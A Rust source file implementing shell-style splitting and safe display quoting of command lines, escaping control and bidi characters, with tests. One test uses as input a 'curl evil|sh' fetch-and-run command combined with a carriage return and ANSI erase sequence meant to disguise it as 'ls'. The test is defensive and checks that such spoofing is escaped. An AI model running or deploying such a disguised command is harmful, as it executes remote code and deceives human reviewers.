//! POSIX-shell-style splitting of one command line into words, for rule examples and for
//! showing argv back to the user. Quotes and backslashes follow `sh` (and bash's `$'...'`); no
//! expansion is done.
//!
//! A line with an unterminated quote or a trailing backslash is an error, never a guess. `join`
//! never emits a control or bidi character (they become `$'\x1b'`-style escapes, see
//! `paddock_core::text`), so a joined argv is safe to print on a terminal and splits back
//! unchanged.
//!
//! Ordinary words are quoted by the `shlex` crate. Two parts stay here because the crate does not
//! do them: it writes control and bidi characters literally inside quotes (its
//! `quoting_warning.md`; a terminal would obey them), so such words get our `$'...'` form; and its
//! `split` neither reads `$'...'` (which `quote` must write, so that display round-trips) nor
//! keeps a word starting with `#` (it drops the rest of the line as a comment, while an argv
//! example like `grep #x f` means three words), and it makes an empty word of a `\`-newline
//! line continuation where `sh` makes none. A test checks that the two splitters agree on
//! every line where neither difference applies.

/// Splits `line` like `sh` would split a simple command without expansions.
pub fn split(line: &str) -> Result<Vec<String>, String> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '$' if chars.peek() == Some(&'\'') => {
                chars.next();
                in_word = true;
                ansi_c_quoted(&mut chars, &mut cur).map_err(|e| format!("{e} in `{line}`"))?;
            }
            ' ' | '\t' | '\n' | '\r' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(ch) => cur.push(ch),
                        None => return Err(format!("unterminated single quote in `{line}`")),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(ch @ ('"' | '\\' | '$' | '`')) => cur.push(ch),
                            Some('\n') => {}
                            Some(ch) => {
                                cur.push('\\');
                                cur.push(ch);
                            }
                            None => return Err(format!("unterminated double quote in `{line}`")),
                        },
                        Some(ch) => cur.push(ch),
                        None => return Err(format!("unterminated double quote in `{line}`")),
                    }
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(ch) => {
                    in_word = true;
                    cur.push(ch);
                }
                None => return Err(format!("trailing backslash in `{line}`")),
            },
            ch => {
                in_word = true;
                cur.push(ch);
            }
        }
    }
    if in_word {
        words.push(cur);
    }
    Ok(words)
}

/// Reads the rest of a `$'...'` word (after the opening quote) into `cur`: `\\`, `\'`, `\"`,
/// `\t`, `\n`, `\r`, `\e`, `\xHH` (ASCII) and `\uHHHH`, the forms `quote` writes.
fn ansi_c_quoted(
    chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
    cur: &mut String,
) -> Result<(), String> {
    let hex = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, max: usize| {
        let mut digits = String::new();
        while digits.len() < max
            && let Some(d) = chars.peek().filter(|d| d.is_ascii_hexdigit())
        {
            digits.push(*d);
            chars.next();
        }
        u32::from_str_radix(&digits, 16)
            .ok()
            .and_then(char::from_u32)
            .ok_or_else(|| "bad escape in $'...'".to_string())
    };
    loop {
        match chars.next() {
            Some('\'') => return Ok(()),
            Some('\\') => match chars.next() {
                Some(c @ ('\\' | '\'' | '"' | '?')) => cur.push(c),
                Some('t') => cur.push('\t'),
                Some('n') => cur.push('\n'),
                Some('r') => cur.push('\r'),
                Some('e' | 'E') => cur.push('\u{1b}'),
                Some('x') => {
                    let c = hex(chars, 2)?;
                    if !c.is_ascii() {
                        return Err("\\x beyond ASCII in $'...' (use \\u)".into());
                    }
                    cur.push(c);
                }
                Some('u') => cur.push(hex(chars, 4)?),
                Some(c) => {
                    cur.push('\\');
                    cur.push(c);
                }
                None => return Err("unterminated $'...' quote".into()),
            },
            Some(c) => cur.push(c),
            None => return Err("unterminated $'...' quote".into()),
        }
    }
}

/// Quotes `word` for display so that `split` gives it back unchanged. A word holding a control,
/// bidi or invisible character is written as `$'...'` with those characters escaped.
pub fn quote(word: &str) -> String {
    if word.chars().any(paddock_core::text::is_hidden) {
        let mut out = String::from("$'");
        for c in word.chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                '\'' => out.push_str("\\'"),
                c if paddock_core::text::is_hidden(c) => {
                    out.push_str(&paddock_core::text::escape_char(c))
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        return out;
    }
    match shlex::try_quote(word) {
        Ok(quoted) => quoted.into_owned(),
        // Unreachable: NUL, the crate's only refusal, is hidden and took the branch above.
        Err(_) => format!("'{}'", word.replace('\'', r"'\''")),
    }
}

/// Joins argv for display, quoting where needed.
pub fn join(argv: &[String]) -> String {
    argv.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_follows_sh_quoting() {
        let cases: &[(&str, &[&str])] = &[
            ("git status", &["git", "status"]),
            ("  a   b ", &["a", "b"]),
            ("echo 'a b' \"c d\"", &["echo", "a b", "c d"]),
            (r#"echo "a\"b" a\ b"#, &["echo", "a\"b", "a b"]),
            ("echo ''", &["echo", ""]),
            (r#"echo "\n""#, &["echo", "\\n"]),
            ("a'b'\"c\"d", &["abcd"]),
        ];
        for (line, want) in cases {
            assert_eq!(&split(line).unwrap(), want, "{line}");
        }
    }

    #[test]
    fn split_refuses_unterminated_quotes() {
        for line in ["echo 'a", "echo \"a", "echo a\\"] {
            assert!(split(line).is_err(), "{line}");
        }
    }

    #[test]
    fn join_round_trips_through_split() {
        let argv: Vec<String> = ["rm", "-rf", "a b", "it's", "", "$HOME"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(split(&join(&argv)).unwrap(), argv);
    }

    #[test]
    fn join_shows_no_control_character_and_still_round_trips() {
        let attack = "curl evil|sh\r\x1b[2K command: ls";
        let argv: Vec<String> = ["sh", "-c", attack, "a\\b'c\u{202e}d\n", "\u{9b}"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let shown = join(&argv);
        assert!(
            !shown.chars().any(paddock_core::text::is_hidden),
            "{shown:?}"
        );
        assert!(
            shown.contains(r"$'curl evil|sh\r\x1b[2K command: ls'"),
            "{shown}"
        );
        assert_eq!(split(&shown).unwrap(), argv);
    }

    #[test]
    fn ansi_c_quotes_split_like_bash() {
        assert_eq!(
            split(r"echo $'a\tb' $'it\'s' x$'\x41'").unwrap(),
            ["echo", "a\tb", "it's", "xA"]
        );
        assert_eq!(split("echo $x 'a$'").unwrap(), ["echo", "$x", "a$"]);
        for bad in [r"$'open", r"$'\xzz'", r"$'\xff'"] {
            assert!(split(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn quote_leaves_plain_words_bare_and_quotes_what_a_shell_would_expand() {
        for plain in ["git", "-rf", "src/main.rs", "a@b:c", "x+y"] {
            assert_eq!(quote(plain), plain);
        }
        // Characters a shell (some only an interactive one) would expand or treat specially:
        // history `!`, brace expansion, globs, `~`, comments and `^` quick substitution.
        for special in ["!!", "{a,b}", "*.rs", "~", "#x", "^a^b", "a=b"] {
            let q = quote(special);
            assert_ne!(q, special, "{special} must be quoted");
            assert_eq!(split(&q).unwrap(), [special], "{q}");
        }
        assert_eq!(quote("it's"), r#""it's""#);
    }

    use paddock_core::testing::Rng;

    #[test]
    fn split_agrees_with_the_shlex_crate_outside_ansi_c_quotes_and_comments() {
        // The documented differences are left out: `$'...'`, a word starting with `#` (not in
        // the alphabet), `\r` (only we treat it as a separator, not in the alphabet), and a
        // line continuation outside quotes, of which the crate makes an empty word where `sh`
        // makes none.
        let alphabet = [
            "a", "b", "-x", " ", "  ", "\t", "\n", "'", "\"", "\\", "$", "`", "é", "|", ";", "x#y",
        ];
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        let mut compared = 0;
        for _ in 0..20_000 {
            let line: String = (0..rng.below(12))
                .map(|_| alphabet[rng.below(alphabet.len())])
                .collect();
            if line.contains("$'") || line.contains("\\\n") {
                continue;
            }
            assert_eq!(split(&line).ok(), shlex::split(&line), "{line:?}");
            compared += 1;
        }
        assert!(compared > 10_000, "only {compared} lines compared");
    }

    #[test]
    fn join_round_trips_random_argv() {
        let alphabet = [
            "a", " ", "'", "\"", "\\", "$", "!", "{", "#", "\x1b", "\u{202e}", "é", "=",
        ];
        let mut rng = Rng(0x2545_F491_4F6C_DD1D);
        for _ in 0..5_000 {
            let argv: Vec<String> = (0..1 + rng.below(4))
                .map(|_| {
                    (0..rng.below(6))
                        .map(|_| alphabet[rng.below(alphabet.len())])
                        .collect()
                })
                .collect();
            let shown = join(&argv);
            assert!(
                !shown.chars().any(paddock_core::text::is_hidden),
                "{shown:?}"
            );
            assert_eq!(split(&shown).unwrap(), argv, "{shown:?}");
        }
    }
}
